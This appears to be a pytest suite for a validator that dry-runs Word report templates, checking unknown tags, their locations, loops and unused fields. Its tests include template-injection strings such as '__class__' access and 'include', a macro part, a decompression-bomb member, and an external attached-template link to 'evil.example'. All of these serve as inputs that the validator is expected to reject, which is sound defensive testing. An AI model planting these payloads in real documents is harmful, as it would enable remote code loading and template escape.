"""Dry run of Word templates: unknown tags with their place, values left out, files that may not come in."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence
from typing import Any

import pytest
from docx import Document

from qingtian.domain.errors import InvalidInput
from qingtian.interfaces.printing.reports import house_template
from qingtian.interfaces.printing.trial import dry_run
from qingtian.packs.reports import report_kinds

CHAPTERS = ("summary", "air", "sources")


def docx(*lines: str, header: str = "{{ label }}", footer: str = "", cell: str = "") -> bytes:
    document = Document()
    document.sections[0].header.paragraphs[0].text = header
    document.sections[0].footer.paragraphs[0].text = footer
    for line in lines:
        document.add_paragraph(line)
    if cell:
        table = document.add_table(rows=2, cols=3)
        table.cell(1, 2).text = cell
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def unknown(content: bytes, chapters: Sequence[str] = CHAPTERS) -> dict[str, Any]:
    return {one["tag"]: one for one in dry_run(content, chapters)["unknown"]}


@pytest.mark.parametrize("kind", sorted(report_kinds()))
def test_the_template_of_the_house_fits_every_kind(kind: str) -> None:
    found = dry_run(house_template(), report_kinds()[kind].sections)
    assert found["unknown"] == []
    assert not [one for one in found["unused"] if "." in one]


def test_an_unknown_tag_is_named_with_its_place() -> None:
    found = unknown(
        docx(
            "{{ title }}",
            "平均 {{ figures.air_pm52.value }}，{{ figures.air_pm25.valu }}",
            cell="{{ tables.air_day.title }}",
            footer="{{ pagenumber }}",
        )
    )
    assert set(found) == {"figures.air_pm52", "figures.air_pm25.valu", "tables.air_day", "pagenumber"}
    assert found["figures.air_pm52"]["place_zh"] == "正文第 2 段"
    assert found["figures.air_pm52"]["place"] == "body, paragraph 2"
    assert found["tables.air_day"]["place"] == "body, table 1, row 2, cell 3"
    assert found["pagenumber"]["place"] == "footer of section 1, paragraph 1"


def test_a_tag_that_word_split_into_runs_is_still_one_tag() -> None:
    document = Document()
    document.sections[0].header.paragraphs[0].text = "{{ label }}"
    paragraph = document.add_paragraph()
    for part in ("{", "{ figu", "res.nothing", ".value }", "}"):
        paragraph.add_run(part)
    made = io.BytesIO()
    document.save(made)
    assert unknown(made.getvalue())["figures.nothing"]["place"] == "body, paragraph 1"


def test_inside_a_loop_the_items_are_known_too() -> None:
    fine = docx(
        "{%p for part in sections %}",
        "{{ part.title }}",
        "{%p for block in part.blocks %}",
        "{%p if block.type == 'text' %}",
        "{{ block.text }} {{ loop.index }}",
        "{%p endif %}",
        "{%p endfor %}",
        "{%p endfor %}",
    )
    assert unknown(fine) == {}
    wrong = docx("{%p for part in sections %}", "{{ part.heading }}", "{%p endfor %}", "{{ part.title }}")
    found = unknown(wrong)
    assert set(found) == {"part.heading", "part"}
    assert found["part.heading"]["place"] == "body, paragraph 2"


def test_a_chapter_that_the_kind_does_not_have_gives_no_tags() -> None:
    content = docx("{{ figures.cases_opened.value }}")
    assert set(unknown(content)) == {"figures.cases_opened"}
    assert unknown(content, ("cases",)) == {}


def test_what_the_template_does_not_show_is_listed() -> None:
    found = dry_run(docx("{{ title }} {{ figures.air_pm25.value }} {{ texts['summary'] }}"), CHAPTERS)
    assert found["unknown"] == []
    assert "figures.air_pm25" not in found["unused"]
    assert "texts.summary" not in found["unused"]
    assert {"figures.air_o3", "tables.air_days", "charts.air_aqi", "texts.air_summary"} <= set(found["unused"])
    assert found["tags"] == 4


@pytest.mark.parametrize(
    ("line", "tag"),
    [
        ("{{ title.upper() }}", "title.upper()"),
        ("{{ title | pprint }}", "|pprint"),
        ("{% for a, b in sections %}x{% endfor %}", "sections"),
        ("{% for one in title %}x{% endfor %}", "title"),
        ("{% include 'other' %}", "{% include %}"),
        ("{% set x = 1 %}", "{% assign %}"),
        ("{{ title.__class__ }}", "title.__class__"),
        ("{{ 10 ** 9 }}", "pow"),
        ("{% for n in range(9) %}x{% endfor %}", "range()"),
    ],
)
def test_what_may_not_stand_in_a_template_is_told(line: str, tag: str) -> None:
    assert tag in unknown(docx(line))


@pytest.mark.parametrize("line", ["{{ title", "{%p for x in sections %}", "{{ title }} {% endif %}", "{{ 1 + }}"])
def test_broken_syntax_is_told_instead_of_failing(line: str) -> None:
    found = dry_run(docx(line), CHAPTERS)["unknown"]
    assert line == "{{ title" or any("syntax" in one["why_en"] for one in found)


def test_a_template_whose_pages_do_not_say_what_is_simulated_is_refused() -> None:
    for header in ("", "{{ title }}", "{{ labels }}"):
        assert "label" in unknown(docx("{{ label }}", header=header))
    assert unknown(docx(header="第一页 {{ label }}")) == {}


def repacked(content: bytes, name: str, change: Any) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as given, zipfile.ZipFile(made, "w") as kept:
        for one in given.infolist():
            if one.filename != name:
                kept.writestr(one, given.read(one.filename))
        old = given.read(name) if name in given.namelist() else b""
        new = change(old)
        if new is not None:
            kept.writestr(name, new)
    return made.getvalue()


def test_a_file_that_is_no_plain_word_document_stays_outside() -> None:
    good = docx("{{ title }}")
    far = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    rels = "word/_rels/document.xml.rels"
    for content, why in (
        (b"", "no Word document"),
        (b"%PDF-1.7", "no Word document"),
        (repacked(good, "word/document.xml", lambda _old: None), "no Word document"),
        (repacked(good, "word/vbaProject.bin", lambda _old: b"x"), "macros"),
        (repacked(good, rels, lambda old: old.replace(b"</Relationships>", far)), "from outside"),
        (repacked(good, "word/document.xml", lambda _old: b"<broken"), "cannot be read"),
        (repacked(good, "word/media/x.bin", lambda _old: b"\0" * 50_000_001), "unpacks|more than"),
        (b"x" * 5_000_001, "more than 5 MB"),
    ):
        with pytest.raises(InvalidInput, match=why) as refused:
            dry_run(content, CHAPTERS)
        assert refused.value.field == "file"
        assert refused.value.remedy
